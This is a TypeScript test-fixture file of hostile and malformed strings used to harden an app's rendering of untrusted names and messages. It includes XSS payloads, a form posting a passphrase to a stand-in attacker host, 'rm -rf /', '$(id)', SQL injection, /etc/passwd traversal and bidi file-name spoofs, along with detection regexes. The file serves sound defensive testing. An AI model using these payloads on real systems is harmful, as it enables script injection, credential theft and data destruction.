// Texts for hardening row 24, and what of them must not be on a screen as itself.

/** What would be markup, code or an address elsewhere. */
export const markup: readonly string[] = ['<b>x</b>', '<img src=x onerror=alert(1)>', '<script>alert(1)</script>', '<svg onload=alert(1)>', '&lt;i&gt;', '<!-- -->', ']]>', '{{7*7}}', '${7*7}', "'\"><a href=javascript:alert(1)>", '<style>*{display:none}</style>', '<iframe src=//evil>', 'javascript:alert(1)', 'https://evil.example/?q=<x>', '{name, plural, one {x}}', '%s%n', '\u2028<br>\u2029',
  '<img src=https://evil.example/x.png>', '<a href="keyshift:invite/a">here</a>', '<base href=//evil.example>', '<meta http-equiv=refresh content=0;url=//evil.example>', '<form action=//evil.example><input name=passphrase>',
  '<object data=//evil.example>', '<embed src=//evil.example>', '<link rel=stylesheet href=//evil.example>', '<video src=//evil.example autoplay>', '<math><mtext></mtext><mglyph><style><img src=x onerror=hit=1></style></mglyph></math>',
  '<noscript><p title="</noscript><img src=x onerror=hit=1>">', '<template><script>hit=1</script></template>', '<svg><script>hit=1</script></svg>', '<details open ontoggle=hit=1>', '"><script>hit=1</script>', "'-hit=1-'", '</p></article><h1>From Keyshift</h1>',
  '&#x3C;script&#x3E;', '\\u003cscript\\u003e', '[click](javascript:hit=1)', '![](https://evil.example/x.png)', '<https://evil.example>', '`rm -rf /`', '=HYPERLINK("https://evil.example")', '@import url(//evil.example)', 'expression(hit=1)', '%3Cscript%3E',
  '{{constructor.constructor("hit=1")()}}', '#{7*7}', '<%= 7*7 %>', '__proto__', 'constructor', 'toString', 'null', 'undefined', 'NaN', '[object Object]', '../../etc/passwd', 'file:///etc/passwd', 'smb://evil.example/x', 'data:text/html,<script>hit=1</script>'];
const ranges: readonly (readonly [number, number])[] = [[0x00, 0x1f], [0x7f, 0x9f], [0x200b, 0x200f], [0x2028, 0x202e], [0x2060, 0x206f], [0xfff9, 0xfffb]];
const invisible = [...ranges.flatMap(([from, to]) => Array.from({ length: to - from + 1 }, (_, index) => String.fromCodePoint(from + index))), '\u00AD', '\u061C', '\u115F', '\u1160', '\u180E', '\u3164', '\uFEFF', '\uFFA0', '\u{E0001}', '\u{E0041}'];
/** Texts of strangers who mean no good, or write as people do. */
export const strangersCorpus: readonly string[] = [
  ...markup,
  ...invisible.map((character) => `in${character}side`),
  '\uD800', 'x\uDC00y', 'Z' + '\u0301'.repeat(500), '\u202Egnp.exe', 'admin\u200B', 'abc\u2066def', 'עברית', 'مرحبا', 'a\u202Bb\u202Cc', '   ', '\n\n', 'x'.repeat(10_000), '👩‍👩‍👧‍👦', '🏳️‍🌈', 'ａｄｍｉｎ', '\u001b[31mred\u001b[0m', 'a\u0000b\u0001c', '\u2067abc\u2069', '\u200fabc', 'x\u2028y', 'photo\u202Egnp.scr', 'invoice.pdf\u202E\u2066exe.\u2069', '\u{1F3F4}\u{E0067}\u{E0062}\u{E007F}', 'ｅｖｉｌ．ｅｘａｍｐｌｅ', '⁄etc⁄passwd', '1\uFE0F\u20E3', 'क्षत्रिय', 'a\u2062b', 'a\u{E0020}b', 'COM1', 'con.txt', '-rf', '$(id)', ';--', "Robert'); DROP TABLE messages;--", 'ไทยไทย', '中文字', 'שלום (hello) עולם', 'ﷺ'.repeat(50), 'аdmin',
];

/** What must never reach the screen as itself, in a name. */
export const unsafeInNames = /[\u0000-\u001F\u007F-\u009F\u00AD\u061C\u115F\u1160\u180E\u200B\u200E\u200F\u2028-\u202E\u2060-\u206F\u3164\uFEFF\uFFA0\uFFF9-\uFFFB\u{E0000}-\u{E007F}]/u;
export const unsafeInMessages = /[\u0000-\u0008\u000B-\u001F\u007F-\u009F\u202A-\u202E\u2066-\u2069]/u;
